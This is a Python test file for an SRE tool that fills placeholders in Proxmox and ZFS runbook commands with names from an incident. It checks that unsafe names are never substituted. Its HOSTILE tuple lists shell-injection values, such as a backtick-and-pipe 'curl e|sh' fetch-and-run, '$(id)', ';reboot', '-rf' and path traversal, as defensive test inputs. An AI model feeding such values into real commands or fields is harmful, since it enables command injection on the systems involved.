"""Commands of runbooks carry the names of the incident, or say what to put in."""

import re
from functools import cache
from importlib import resources

import pytest

from sre_tui.diagnosis.causes.model import Step
from sre_tui.diagnosis.own_names import (
    commands_with_own,
    id_names,
    own_names,
    with_own_in_code,
)
from sre_tui.diagnosis.steps import steps_of
from sre_tui.diagnosis.subject import Subject, SubjectKind

VM = id_names(108, "qemu")
CT = id_names(126, "lxc")


@pytest.mark.parametrize(
    ("command", "own", "expected"),
    [
        ("qm start <vmid>", VM, "qm start 108"),
        ("qm start <vmid>", CT, "pct start 126"),
        ("qm start <vmid>", {}, "qm start <vmid>"),
        ("pct fsck <ctid>", VM, "pct fsck <ctid>"),
        ("pct mount <ctid> && ls /var/lib/lxc/<ctid>/rootfs", CT,
         "pct mount 126 && ls /var/lib/lxc/126/rootfs"),
        ("qm unlock <vmid>      # or: pct unlock <ctid>", VM, "qm unlock 108"),
        ("qm unlock <vmid>      # or: pct unlock <ctid>", CT, "pct unlock 126"),
        ("qm shutdown <vmid> && pct shutdown <ctid>", VM, "qm shutdown 108 && pct shutdown <ctid>"),
        ("qm agent <vmid> ping && qm guest exec <vmid> -- date", CT,
         "qm agent <vmid> ping && qm guest exec <vmid> -- date"),
        ("qmrestore <storage>:backup/vm/<vmid>/<time> <vmid>", CT | {"storage": "pbs"},
         "qmrestore pbs:backup/vm/<vmid>/<time> <vmid>"),
        ("vzdump <vmid> --storage <storage>", VM, "vzdump 108 --storage <storage>"),
        ("grep lxc.idmap /etc/pve/lxc/<ctid>.conf", VM, "grep lxc.idmap /etc/pve/lxc/<ctid>.conf"),
        ("mv /etc/pve/nodes/<node>/qemu-server/<vmid>.conf /etc/pve/nodes/<other-node>/",
         {"node": "pve3"} | CT,
         "mv /etc/pve/nodes/pve3/qemu-server/<vmid>.conf /etc/pve/nodes/<other-node>/"),
        ("zfs destroy -nv <pool>/<dataset>@<first>%<last>", {},
         "zfs destroy -nv <pool>/<dataset>@<first>%<last>"),
        ("zfs destroy -nv <pool>/<dataset>@<first>%<last>", {"pool": "fast"},
         "zfs destroy -nv fast/<dataset>@<first>%<last>"),
        ("ls /<pool>/<dataset>/.zfs", {"pool": "fast", "dataset": "fast/media"},
         "ls /fast/media/.zfs"),
        ("smartctl -a /dev/<disk>", {"disk": "sdh"}, "smartctl -a /dev/sdh"),
        ("smartctl -a /dev/<disk>", {"disk": "17340298351"}, "smartctl -a /dev/<disk>"),
        ("snapshot list <vm|ct>/<vmid> --repository <user>@pbs@<backup-server>:<datastore>",
         {"datastore": "archive"} | CT,
         "snapshot list ct/126 --repository <user>@pbs@<backup-server>:archive"),
    ],
)  # fmt: skip
def test_a_placeholder_gives_way_to_the_own_name(
    command: str, own: dict[str, str], expected: str
) -> None:
    assert commands_with_own([command], own) == [expected]


@pytest.mark.parametrize("name", ["pve1", "main", "tank", "backup", "vmid", "keep-main", "media"])
def test_no_own_name_is_taken_for_an_example(name: str) -> None:
    own = dict.fromkeys(("node", "pool", "datastore", "server", "container", "storage"), name)
    command = "x <node> <pool> <datastore> <backup-server> <container> <storage> <other-node>"
    said = " ".join(["x", *[name] * 6, "<other-node>"])
    assert commands_with_own([command], own) == [said]
    assert commands_with_own(commands_with_own([command], own), {"node": "other"}) == [said]


HOSTILE = (
    "x`;curl e|sh", "x;reboot", "$(id)", "a b", "a\nb", "-rf", "../../etc", "a/../b", "x'", 'x"',
    "a|b", "x>y", "<pool>", "x&", "x\\", "ä", "*", "~root", "",
)  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_is_more_than_a_word_never_stands_in_a_command(name: str) -> None:
    slots = ("vmid", "ct", "short", "type", "guest", "node", "nas", "server", "datastore",
             "storage", "pool", "dataset", "disk", "container", "site", "ups")  # fmt: skip
    own = dict.fromkeys(slots, name)
    for one in _bundled():
        assert commands_with_own(one.commands, own) == list(dict.fromkeys(one.commands))
        assert with_own_in_code(one.text, own) == one.text


def test_commands_for_the_other_type_of_guest_are_left_out() -> None:
    both = ["qm status <vmid>", "pct status <ctid>", "pvesm status"]
    assert commands_with_own(both, CT) == ["pct status 126", "pvesm status"]
    assert commands_with_own(both, {}) == both
    said = "`pct start <ctid>` for a container, `qm start <vmid>` for a virtual machine"
    fitted = "`pct start 126` for a container, `qm start <vmid>` for a virtual machine"
    assert with_own_in_code(said, CT) == fitted


def test_what_the_effects_tell_counts_where_it_is_one() -> None:
    disk = Subject(kind=SubjectKind.DISK, name="nas1/sdh")
    pools = [Subject(kind=SubjectKind.POOL, name=f"nas1/{name}") for name in ("tank", "fast")]
    nas = [Subject(kind=SubjectKind.NAS, name="nas1")]
    found = own_names(disk, pools[:1], machines=nas)
    assert found == {"disk": "sdh", "nas": "nas1", "pool": "tank"}
    assert "pool" not in own_names(disk, pools)


@pytest.mark.parametrize(
    ("kind", "slot"),
    [
        (SubjectKind.NAS, "nas"), (SubjectKind.NODE, "node"),
        (SubjectKind.BACKUP_SERVER, "backup-server"), (SubjectKind.HOST, ""),
    ],
)  # fmt: skip
def test_a_machine_is_called_what_it_is_though_it_carries_no_guest(
    kind: SubjectKind, slot: str
) -> None:
    disk = Subject(kind=SubjectKind.DISK, name="box/sdh")
    own = own_names(disk, machines=[Subject(kind=kind, name="box")])
    for place in ("nas", "node", "backup-server"):
        shown = "box" if place == slot else f"<{place}>"
        assert commands_with_own([f"ping <{place}>"], own) == [f"ping {shown}"]


_FOREIGN = re.compile(
    r"\b(?:qm|pct|vzdump) (?:\w+ )*\d+\b|\b(?:tank|sdc|nvme0n1|pve[12]|nas[12]|nas-media)\b|/main\b"
    r"|paperless|:main\b|keep-main|192\.168|ZR\d{4}|\beno1\b|local-zfs|auto-20\d\d"
)


def test_no_command_of_a_bundled_runbook_carries_a_name_of_its_own() -> None:
    steps = _bundled()
    assert len(steps) > 100
    told = [text for one in steps for text in (*one.commands, *re.findall("`[^`]+`", one.text))]
    assert [one for one in told if _FOREIGN.search(one)] == []
    assert not [one.text for one in steps if re.search(r"\]\([^)]+\)", one.text)]


@cache
def _bundled() -> list[Step]:
    books = [one.name.removesuffix(".md") for one in resources.files("runbooks").iterdir()
             if one.name.endswith(".md")]  # fmt: skip
    return [one for book in books for part in ("Checks", "Fix", "Verify")
            for one in steps_of(book, part, 99)]  # fmt: skip
